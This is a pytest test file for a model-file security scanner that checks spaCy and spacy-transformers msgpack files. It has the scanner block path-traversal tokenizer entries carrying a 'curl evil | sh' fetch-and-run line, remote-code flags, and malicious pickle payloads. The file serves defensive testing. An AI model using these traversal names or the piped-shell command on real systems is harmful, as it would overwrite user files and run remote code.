"""spaCy / thinc / spacy-transformers msgpack files: claimed when spaCy writes them, judged by what they hold.

spaCy 3.8 writes ``tokenizer`` (a map whose exception keys include ``"\\t"``, ``"\\n"``, ``"\\xa0"``),
``vocab/key2row`` (``0x80`` alone, or a map keyed by 64-bit hashes) and ``lookups.bin`` (``0x80``). A thinc model
file's ``shims[i][j]`` bytes go to the shim's ``from_bytes``: spacy-transformers' HFShim ``torch.load``s
``state`` and writes each ``tokenizer`` entry to ``temp_dir / name`` before ``AutoTokenizer.from_pretrained``.
"""

from __future__ import annotations

import json
import pickle
import time
from pathlib import Path

import msgpack
import pytest

from scanner.findings import Coverage, FileResult
from scanner.formats.detect import inspect_with_detection
from scanner.formats.interface import InspectContext, ScanState
from scanner.formats.msgpack_file import MSGPACK
from scanner.io.reader import BytesReader
from scanner.limits import DEFAULT_LIMITS
from scanner.rules import get_rule_db
from tests.harness import evil_pickle, fixture, inspect_bytes, mutations, path_verdict

SAMPLES = Path(__file__).resolve().parents[1] / "samples"
STATE = (SAMPLES / "state_dict.pt").read_bytes()
VOCAB = "\n".join(["[PAD]", "[UNK]", "[CLS]", "[SEP]", "[MASK]"] + [f"w{i}" for i in range(30517)]).encode()


def _shim(tokenizer: dict, state: bytes = STATE, config: dict | None = None) -> bytes:
    msg = {
        "config": config or {"model_type": "bert"},
        "state": state,
        "tokenizer": tokenizer,
        "_init_tokenizer_config": {},
        "_init_transformer_config": {},
    }
    return msgpack.packb(msg, use_bin_type=True)


def _thinc(shim: bytes) -> bytes:
    node = {"index": 0, "name": "transformer", "dims": {}, "refs": {}}
    msg = {"nodes": [node], "attrs": [{}], "params": [{}], "shims": [[shim]]}
    return msgpack.packb(msg, use_bin_type=True)


def _judge(tmp_path: Path, data: bytes, name: str = "model") -> tuple[str, set[str], str]:
    """(decision, rule ids, detected format) of ``data`` scanned as a file called ``name``."""
    p = tmp_path / name
    p.parent.mkdir(parents=True, exist_ok=True)
    p.write_bytes(data)
    decision, found = path_verdict(p)
    return decision, set(found), inspect_bytes(data, name).format


def _legacy_torch_with(payload: bytes) -> bytes:
    """A legacy (pre-zip) torch.save stream: magic number, protocol, sys info pickles, then ``payload``."""
    sys_info = {
        "protocol_version": 1001,
        "little_endian": True,
        "type_sizes": {"short": 2, "int": 4, "long": 4},
    }
    return b"".join(pickle.dumps(x, protocol=2) for x in (0x1950A86A20F9469CFC6C, 1001, sys_info)) + payload


def _ok(tokenizer: dict | None = None) -> dict:
    return {"kwargs": {"use_fast": True}, "vocab.txt": VOCAB, **(tokenizer or {})}


# ------------------------------------------------------------------------------------------ spaCy's own files
@pytest.mark.parametrize("data", [b"\x80", b"\x90", b"\xde\x00\x00"])
def test_empty_map_and_array_files_are_msgpack(tmp_path: Path, data: bytes) -> None:
    decision, found, fmt = _judge(tmp_path, data, "key2row")
    assert fmt == "msgpack" and decision == "allow", found


def test_empty_map_followed_by_bytes_is_not_claimed() -> None:
    assert inspect_bytes(b"\x80" + b"\x01\x02\x03" * 8, "key2row").format != "msgpack"


def test_lookups_bin_is_named_for_msgpack(tmp_path: Path) -> None:
    decision, found, _ = _judge(tmp_path, b"\x80", "vocab/lookups.bin")
    assert decision == "allow", found


@pytest.mark.parametrize("n", [3, 5000])  # 5000: more items than the sniff walks
def test_key2row_hash_table_is_claimed(tmp_path: Path, n: int) -> None:
    data = msgpack.packb({((0x9E3779B97F4A7C15 * (i + 1)) % 2**64) | 1 << 63: i for i in range(n)})
    decision, found, fmt = _judge(tmp_path, data, "key2row")
    assert fmt == "msgpack" and decision == "allow", found


def test_tokenizer_with_whitespace_exception_keys_is_claimed(tmp_path: Path) -> None:
    exc = {k: [{65: k}] for k in ("\t", "\n", " ", "\xa0", *(f"x{i}" for i in range(3000)))}
    data = msgpack.packb({"prefix_search": "^\\(", "exceptions": exc, "faster_heuristics": True})
    decision, found, fmt = _judge(tmp_path, data, "tokenizer")
    assert fmt == "msgpack" and decision == "allow", found


def test_map_keyed_by_small_ints_at_the_top_is_not_a_hash_table() -> None:
    data = b"\xde\x10\x00" + bytes(range(1, 120)) * 300  # int8 weights near zero read as int keys
    assert inspect_bytes(data, "w.bin").format != "msgpack"


# ------------------------------------------------------------------------------------------ spacy-transformers
WRAPS = pytest.mark.parametrize("wrap", [lambda b: b, _thinc], ids=["shim", "thinc-model"])


@WRAPS
def test_benign_transformer_model_is_allowed(tmp_path: Path, wrap) -> None:  # type: ignore[no-untyped-def]
    decision, found, fmt = _judge(tmp_path, wrap(_shim(_ok())))
    assert fmt == "msgpack" and decision == "allow", found
    assert any(m.endswith("!state") for m in inspect_bytes(wrap(_shim(_ok())), "model").members)


@pytest.mark.parametrize(
    "name", ["../../../home/u/.bashrc", "..\\x", "/abs", "sub/../../x", "C:x", "a\x00b", "..", ""]
)
@WRAPS
def test_tokenizer_entry_name_outside_the_folder_blocks(tmp_path: Path, name: str, wrap) -> None:  # type: ignore[no-untyped-def]
    decision, found, _ = _judge(tmp_path, wrap(_shim(_ok({name: b"curl evil | sh\n"}))))
    assert decision == "block" and "MSGPACK-SHIM-PATH" in found, found


@pytest.mark.parametrize("value", [True, "no", 1, 0.5, [0], {"a": 0}])
def test_truthy_trust_remote_code_blocks(tmp_path: Path, value: object) -> None:
    decision, found, _ = _judge(tmp_path, _thinc(_shim(_ok({"kwargs": {"trust_remote_code": value}}))))
    assert decision == "block" and "MSGPACK-SHIM-CODE" in found, found


@pytest.mark.parametrize("value", [False, None, 0, 0.0, "", []])
def test_falsy_trust_remote_code_is_allowed(tmp_path: Path, value: object) -> None:
    decision, found, _ = _judge(
        tmp_path, _shim(_ok({"kwargs": {"use_fast": False, "trust_remote_code": value}}))
    )
    assert decision == "allow", found


def test_unknown_tokenizer_kwargs_block(tmp_path: Path) -> None:
    decision, found, _ = _judge(tmp_path, _shim(_ok({"kwargs": {"use_fast": True, "cache_dir": "/tmp/x"}})))
    assert decision == "block" and "MSGPACK-SHIM-CODE" in found, found


@pytest.mark.parametrize(
    "extra",
    [
        {"tok.py": b"x = 1\n"},  # code even when it looks harmless: never allowed by absence of findings
        {"Tok.PY": b"x = 1\n"},
        {"tokenizer_config.json": json.dumps({"auto_map": {"AutoTokenizer": ["tok.T", None]}}).encode()},
        {"config.json": json.dumps({"model_type": "bert", "auto_map": {"AutoConfig": "c.C"}}).encode()},
    ],
)
def test_code_entries_block(tmp_path: Path, extra: dict) -> None:
    decision, found, _ = _judge(tmp_path, _thinc(_shim(_ok(extra))))
    assert decision == "block" and "MSGPACK-SHIM-CODE" in found, found


def test_auto_map_in_transformer_config_blocks(tmp_path: Path) -> None:
    data = _shim(_ok(), config={"model_type": "x", "auto_map": {"AutoModel": "m.M"}})
    decision, found, _ = _judge(tmp_path, data)
    assert decision == "block" and "MSGPACK-SHIM-CODE" in found, found


@pytest.mark.parametrize("state", ["pickle", "legacy"])
def test_pickle_payload_in_state_blocks(tmp_path: Path, state: str) -> None:
    payload = evil_pickle(2) if state == "pickle" else _legacy_torch_with(evil_pickle(2))
    decision, found, _ = _judge(tmp_path, _thinc(_shim(_ok(), state=payload)))
    assert decision == "block" and "MSGPACK-INVALID" not in found, found
    assert any(r.startswith("PICKLE") for r in found), found


def test_other_tokenizer_entries_are_judged_as_files(tmp_path: Path) -> None:
    decision, found, _ = _judge(tmp_path, _shim(_ok({"special.bin": evil_pickle()})))
    assert decision == "block", found


def test_torchscript_shim_model_is_judged(tmp_path: Path) -> None:
    shim = msgpack.packb({"config": {}, "model": evil_pickle()}, use_bin_type=True)
    decision, found, _ = _judge(tmp_path, _thinc(shim))
    assert decision == "block", found


def _through_msgpack_handler(data: bytes) -> FileResult:
    """The msgpack handler's judgment of ``data``, members dispatched as a scan does."""
    reader = BytesReader(data, "model")
    result = FileResult(path="model", size=reader.size, format="msgpack")
    state = ScanState(
        rules=get_rule_db(),
        limits=DEFAULT_LIMITS,
        result=result,
        budget_left=DEFAULT_LIMITS.max_total_uncompressed,
        deadline=time.monotonic() + DEFAULT_LIMITS.file_seconds,
    )
    MSGPACK.inspect(reader, InspectContext(state, "model", dispatch=inspect_with_detection))
    return result


def test_real_spacy_transformers_model_is_judged_clean() -> None:
    """spacy-transformers 1.4.0's own file (fixtures/msgpack/spacy_trf/README.md): every member judged, no finding."""
    fr = _through_msgpack_handler(fixture("msgpack/spacy_trf/model").read_bytes())
    assert not fr.findings and fr.coverage is Coverage.FULL, [f.rule_id for f in fr.findings]
    assert {m.rsplit("!", 1)[1] for m in fr.members} >= {
        "state",
        "tokenizer/vocab.txt",
        "tokenizer/tokenizer.json",
        "tokenizer/tokenizer_config.json",
        "tokenizer/special_tokens_map.json",
    }


@pytest.mark.fuzz
@pytest.mark.slow
def test_mutated_transformer_models_never_crash_or_pass_silently() -> None:
    real = fixture("msgpack/spacy_trf/model").read_bytes()
    made = _thinc(_shim(_ok({"kwargs": {"use_fast": True, "trust_remote_code": False}})))
    for label, data, judge in (
        ("real", real, _through_msgpack_handler),
        ("made", made, lambda d: inspect_bytes(d, "model")),
    ):
        for i, (_, m) in enumerate(
            mutations(data, label, random_cuts=30, flips=60, flips_per=range(1, 9), head=2048)
        ):
            fr = judge(m)
            crashed = [
                f.message for f in fr.findings if f.rule_id == "INSPECTOR-ERROR" and "msgpack" in f.message
            ]
            assert not crashed, (label, i, crashed)
            assert fr.findings or fr.coverage is Coverage.FULL, (label, i)
